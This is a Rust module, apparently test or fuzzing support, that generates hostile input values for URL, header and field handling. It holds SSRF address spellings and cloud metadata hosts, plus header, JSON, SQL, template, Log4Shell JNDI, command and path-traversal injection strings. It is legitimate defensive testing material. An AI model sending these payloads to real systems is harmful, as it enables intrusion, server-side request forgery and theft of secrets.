//! The hostile values: what stands between the parts of a request, in every spelling and every place of a value; and
//! whole values that somebody has attacked something with.

use std::collections::BTreeSet;

/// Every value, each once.
pub(super) fn values() -> Vec<String> {
    let mut values = BTreeSet::new();
    for character in characters() {
        for spelling in spellings(character) {
            values.extend(framed(&spelling));
        }
    }
    for text in OVERLONG.iter().chain(CONFUSABLE) {
        values.extend(framed(text));
    }
    values.extend(LABELS.iter().copied().map(str::to_owned));
    values.extend(addresses());
    values.extend(urls());
    values.extend(INJECTIONS.iter().copied().map(str::to_owned));
    values.extend(long());
    values.remove("");
    values.into_iter().collect()
}

/// What means something to a URL, a header, a form, JSON, a shell or a template; and every control character.
fn characters() -> impl Iterator<Item = char> {
    let controls = ('\0'..='\u{1f}').chain('\u{7f}'..='\u{9f}');
    let invisible = "\u{a0}\u{ad}\u{200b}\u{200d}\u{200e}\u{202e}\u{2028}\u{2029}\u{2060}\u{3000}\u{fe0f}\u{feff}";
    r#"/\?#@:[]%&=+;,'"<>{}|^`$!*().~_- "#
        .chars()
        .chain(controls)
        .chain(invisible.chars())
}

/// A character as itself and as it is written where it may not stand.
fn spellings(character: char) -> Vec<String> {
    let percent: String = character
        .encode_utf8(&mut [0; 4])
        .bytes()
        .map(|byte| format!("%{byte:02x}"))
        .collect();
    let double = percent.replace('%', "%25");
    let mut spellings = vec![character.to_string(), percent.clone(), double.clone()];
    if character.is_ascii() {
        let code = u32::from(character);
        spellings.push(percent.to_ascii_uppercase());
        spellings.push(double.replace('%', "%25"));
        spellings.push(format!("%u{code:04x}"));
        spellings.push(format!("\\u{code:04x}"));
        spellings.push(format!("&#{code};"));
    }
    spellings
}

/// A text alone, doubled, and before and within something harmless.
fn framed(text: &str) -> [String; 4] {
    [
        text.to_owned(),
        text.repeat(2),
        format!("{text}acme"),
        format!("acme{text}evil.example"),
    ]
}

/// UTF-8 that is longer than it need be, which no decoder should take, and bytes that are no UTF-8.
const OVERLONG: &[&str] = &[
    "%c0%ae",
    "%c0%ae%c0%ae",
    "%c0%af",
    "%e0%80%af",
    "%e0%80%ae",
    "%f0%80%80%af",
    "%c0%80",
    "%c1%9c",
    "%ff",
    "%fe%ff",
    "%ed%a0%80",
    "%",
    "%4",
    "%zz",
    "%00%0d%0a",
    "%2e%2e%2f",
    "%2e%2e/",
    "..%2f",
    "..%5c",
    "%252e%252e%252f",
];

/// What looks like a dot, a slash and the like, or becomes one when it is normalised (NFKC, IDNA).
const CONFUSABLE: &[&str] = &[
    "。",
    "．",
    "｡",
    "․",
    "‥",
    "…",
    "·",
    "٠",
    "／",
    "⁄",
    "∕",
    "╱",
    "＼",
    "﹨",
    "⧵",
    "？",
    "﹖",
    "＃",
    "﹟",
    "＠",
    "﹫",
    "：",
    "﹕",
    "ː",
    "∶",
    "％",
    "﹪",
    "＆",
    "﹠",
    "＝",
    "［",
    "］",
    "｛｛",
    "｝｝",
    "℀",
    "℁",
    "℅",
    "℆",
    "⒈",
    "㏂",
    "㏇",
    "№",
    "ß",
    "ẞ",
    "ſ",
    "ı",
    "İ",
    "K",
    "Å",
    "①",
    "⑯",
    "ａ",
    "а",
    "е",
    "о",
    "ѕ",
    "ӏ",
    "ɡ",
    "\u{301}",
    "e\u{301}",
    "é",
    "ﬀ",
    "ﷺ",
    "𝐚",
    "🄰",
    "☃",
    "👩\u{200d}💻",
    "\u{10ffff}",
    "\u{fffd}",
    "\u{e0001}",
    "שלום",
    "مثال",
    "例子",
];

/// Host labels that are none, or none that anybody meant.
const LABELS: &[&str] = &[
    ".",
    "..",
    "...",
    "-",
    "--",
    "-acme",
    "acme-",
    ".acme",
    "acme.",
    "acme..",
    "acme..evil",
    "a.-b",
    "a-.b",
    "a_b",
    "_acme",
    "*",
    "*.acme",
    "xn--",
    "xn--a",
    "xn---",
    "xn--acme-",
    "xn--e1afmkfd",
    "xn--80ak6aa92e",
    "xn--n3h",
    "xn--fiqs8s",
    "xn--zckzah",
    "xn--ls8h",
    "xn--0",
    "xn--99999999999",
    "xn--a\u{e9}",
    "XN--E1AFMKFD",
    "ACME",
    "Acme.Evil",
    "evil.example",
    "evil.example.",
    "acme.shop.example",
    "ACME.Shop.Example",
    "shop.example",
    "evil-shop.example",
    "acme.shop.example.evil.example",
    "localhost",
    "LOCALHOST",
    "localhost.",
    "local",
    "internal",
    "metadata",
    "metadata.google.internal",
    "instance-data",
    "example",
    "com",
    "co.uk",
    "1",
    "0",
    "00",
    "0x1",
    "1e1",
    "1.1",
    "a.1",
    "1.a",
    "0x",
    "0xg",
    "08",
    "acme.0x7f",
    "acme.1",
    "nul",
    "con",
    "aux",
    "undefined",
    "null",
    "true",
    "NaN",
    "[object Object]",
];

/// Spellings of addresses that one would rather not be led to.
fn addresses() -> Vec<String> {
    const V4: [[u32; 4]; 6] = [
        [127, 0, 0, 1],
        [169, 254, 169, 254],
        [10, 0, 0, 1],
        [0, 0, 0, 0],
        [192, 168, 1, 1],
        [255, 255, 255, 255],
    ];
    const V6: [&str; 14] = [
        "::1",
        "::",
        "0:0:0:0:0:0:0:1",
        "::ffff:127.0.0.1",
        "::ffff:7f00:1",
        "::127.0.0.1",
        "64:ff9b::127.0.0.1",
        "2002:7f00:1::",
        "fe80::1",
        "fe80::1%25eth0",
        "fe80::1%eth0",
        "fd00:ec2::254",
        "v1.fe80::a+en1",
        "1:2:3",
    ];
    let mut addresses = Vec::new();
    for parts in V4 {
        let whole = parts.iter().fold(0, |whole, part| whole << 8 | part);
        let joined = |written: &dyn Fn(&u32) -> String| {
            parts.iter().map(written).collect::<Vec<_>>().join(".")
        };
        let dotted = joined(&|part| part.to_string());
        addresses.extend([
            joined(&|part| format!("{part:#o}").replace("0o", "0")),
            joined(&|part| format!("{part:#x}")),
            joined(&|part| format!("{part:03}")),
            whole.to_string(),
            format!("{whole:#x}"),
            format!("{whole:#X}"),
            format!("0{whole:o}"),
            format!("{}.{}", parts[0], whole & 0xff_ffff),
            format!("{}.{}.{}", parts[0], parts[1], whole & 0xffff),
            format!("{dotted}."),
            format!("{dotted}:80"),
            format!("{dotted}/"),
            format!("{dotted}.nip.example"),
            dotted.replace('.', "。"),
            dotted.replace('.', "%2e"),
            dotted.replace('1', "①"),
            dotted,
        ]);
    }
    for address in V6 {
        addresses.extend([
            address.to_owned(),
            format!("[{address}]"),
            format!("[{address}]:80"),
            format!("[{address}"),
        ]);
    }
    addresses
}

/// Whole URLs and the beginnings of URLs, for every place that only a part was meant for.
fn urls() -> Vec<String> {
    const BEGINNINGS: [&str; 20] = [
        "https://",
        "http://",
        "HTTPS://",
        "https:",
        "https:/",
        "https:///",
        "https:\\\\",
        "https://\\",
        "//",
        "///",
        "/\\",
        "\\\\",
        "javascript:",
        "data:text/html,",
        "file:///",
        "ftp://",
        "gopher://",
        "ws://",
        "blob:https://",
        " https://",
    ];
    const REST: [&str; 22] = [
        "evil.example",
        "evil.example/",
        "evil.example:443",
        "evil.example:0",
        "evil.example:65536",
        "evil.example:-1",
        "evil.example:",
        "evil.example:80:80",
        "user@evil.example",
        "user:password@evil.example",
        "acme.shop.example@evil.example",
        "evil.example@acme.shop.example",
        "evil.example#.shop.example",
        "evil.example?.shop.example",
        "evil.example\\.shop.example",
        "evil.example/.shop.example",
        "evil.example%2f.shop.example",
        "evil.example;.shop.example",
        "acme.shop.example\\@evil.example",
        "acme.shop.example/../x",
        "acme.shop.example/%2e%2e/x",
        "acme.shop.example/a//b/./c",
    ];
    let mut urls: Vec<_> = BEGINNINGS
        .iter()
        .flat_map(|first| REST.map(|rest| format!("{first}{rest}")))
        .collect();
    urls.extend(REST.map(str::to_owned));
    let paths = [
        "/a b", "/a|b", "/a[b]", "/a^b", "/a`b", "/{a}", "/a\"b", "/a<b>", "/%zz", "/%", "/é",
        "/a%2fb", "//", "/.", "/..", "/a/",
    ];
    urls.extend(paths.map(|path| format!("https://acme.shop.example{path}")));
    urls
}

/// What has been typed into fields to get more than was meant to be had.
const INJECTIONS: &[&str] = &[
    "x\r\nHost: evil.example",
    "x\r\nSet-Cookie: a=b",
    "x\r\n\r\n<html>",
    "x\nTransfer-Encoding: chunked",
    "x\rX: y",
    "x\r\n\tfolded",
    "x%0d%0aHost:%20evil.example",
    "x嘊嘍Host: evil.example",
    "x\u{85}Host: evil.example",
    " leading",
    "trailing ",
    "\ttab",
    "tab\t",
    "x HTTP/1.1\r\nHost: evil.example\r\n\r\nGET /",
    "x\0y",
    "Basic YTpi",
    "a:b",
    ":",
    "a:b:c",
    "\"",
    "\\",
    "\\\"",
    "\",\"admin\":true,\"x\":\"",
    "\"}",
    "\"}]}",
    "\"},{\"a\":\"",
    "{\"a\":1}",
    "[1,2]",
    "null",
    "true",
    "1e999",
    "-0",
    "\\u0000",
    "\\ud800",
    "\\",
    "\u{2028}alert(1)",
    "/*",
    "*/",
    "//",
    "</script><script>alert(1)</script>",
    "<!--",
    "]]>",
    "a&b=c",
    "a&grant_type=client_credentials",
    "a&redirect_uri=https://evil.example/",
    "a=b",
    "a;b=c",
    "a+b",
    "a%20b",
    "a%26b",
    "&",
    "&&",
    "=",
    "==",
    "?",
    "a?b=c",
    "#",
    "a#b",
    "a&client_secret=x#",
    "a%00b",
    "a%0ab",
    "%",
    "%%",
    "%25",
    "%2525",
    "{{client.secret}}",
    "{{ client.secret }}",
    "{{token.access_token}}",
    "{{x}}",
    "{{",
    "}}",
    "{{}}",
    "{{x | upper}}",
    "${x}",
    "#{x}",
    "<%= x %>",
    "{% x %}",
    "%{x}",
    "$(x)",
    "`x`",
    "${jndi:ldap://evil.example/a}",
    "__proto__",
    "constructor.prototype",
    "a[]=1",
    "a[b]=1",
    "' OR '1'='1",
    "1; DROP TABLE instances",
    "| id",
    "; id",
    "$(id)",
    "> /etc/passwd",
    "../../etc/passwd",
    "..\\..\\windows",
    "/etc/passwd",
    "C:\\windows",
    "\\\\evil.example\\share",
    "file.txt\0.png",
    "a/b",
    "a/../b",
    "a/./b",
    "a//b",
    "./a",
    "../a",
    "/..",
    "..;/",
    "%2e%2e;/",
    ".%2e",
    "%2e.",
    "a/%2e%2e/b",
    "….",
    "~",
    "~root",
    "*",
    "%s%s%s%n",
    "%x",
    "😀",
    "\u{202e}moc.elpmaxe",
    "ｅｖｉｌ．ｅｘａｍｐｌｅ",
];

/// What is longer than anybody expects, at the edges of what hosts and fields may have.
fn long() -> Vec<String> {
    let mut long = Vec::new();
    for unit in [
        "a",
        "a.",
        ".",
        "-",
        "/",
        "../",
        "%2e",
        "%",
        "é",
        "\u{10ffff}",
        "\r\n",
        "{{",
        "\"",
        "&a=",
        "\\",
    ] {
        long.extend([64, 254, 1024, 4000].map(|times: usize| unit.repeat(times)));
    }
    let label = |length| "a".repeat(length);
    long.extend([63, 64].map(label));
    long.extend([61, 62].map(|last| format!("{0}.{0}.{0}.{1}", label(63), label(last))));
    long
}
